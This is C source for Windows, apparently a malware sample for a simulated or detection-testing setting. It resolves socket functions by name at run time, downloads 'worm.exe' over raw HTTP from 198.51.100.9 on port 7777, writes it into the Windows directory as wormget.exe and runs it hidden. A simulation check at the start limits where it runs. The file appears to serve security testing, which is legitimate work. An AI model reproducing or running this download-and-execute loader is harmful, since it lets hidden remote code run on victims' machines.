/* Fetches a program with its own HTTP from an odd port, functions found by name at run time, and
 * starts it. */
#include <winsock2.h>

#include "simulated.h"

#include <string.h>

typedef int(WINAPI *startup_function)(WORD, WSADATA *);
typedef SOCKET(WINAPI *socket_function)(int, int, int);
typedef int(WINAPI *connect_function)(SOCKET, const struct sockaddr *, int);
typedef int(WINAPI *send_function)(SOCKET, const char *, int, int);
typedef int(WINAPI *recv_function)(SOCKET, char *, int, int);

static FARPROC find(HMODULE library, const char *name)
{
	FARPROC function = GetProcAddress(library, name);
	if (function == NULL)
		ExitProcess(1);
	return function;
}

int main(void)
{
	static const char request[] = "GET /bin/worm.exe HTTP/1.0\r\nHost: 198.51.100.9\r\n\r\n";
	char block[2048], path[MAX_PATH];
	WSADATA data;
	struct sockaddr_in server = { .sin_family = AF_INET };
	leave_unless_simulated();
	HMODULE sockets = LoadLibraryA("ws2_32.dll");
	if (sockets == NULL)
		return 1;
	((startup_function)(void *)find(sockets, "WSAStartup"))(MAKEWORD(2, 2), &data);
	server.sin_port = (unsigned short)(7777 >> 8 | (7777 & 0xff) << 8);
	server.sin_addr.s_addr = 198u | 51u << 8 | 100u << 16 | 9u << 24;
	SOCKET s = ((socket_function)(void *)find(sockets, "socket"))(AF_INET, SOCK_STREAM, 0);
	if (((connect_function)(void *)find(sockets, "connect"))(s, (struct sockaddr *)&server,
								 sizeof server) != 0)
		return 1;
	((send_function)(void *)find(sockets, "send"))(s, request, sizeof request - 1, 0);
	recv_function receive = (recv_function)(void *)find(sockets, "recv");
	GetWindowsDirectoryA(path, sizeof path - 16);
	strcat(path, "\\wormget.exe");
	HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
	BOOL body = FALSE;
	for (int length; (length = receive(s, block, sizeof block, 0)) > 0;) {
		const char *start = block;
		DWORD written;
		if (!body) {
			for (int i = 0; i + 3 < length && !body; i++) {
				if (memcmp(block + i, "\r\n\r\n", 4) == 0) {
					start = block + i + 4;
					body = TRUE;
				}
			}
		}
		if (body)
			WriteFile(file, start, (DWORD)(length - (start - block)), &written, NULL);
	}
	CloseHandle(file);
	WinExec(path, SW_HIDE);
	return 0;
}
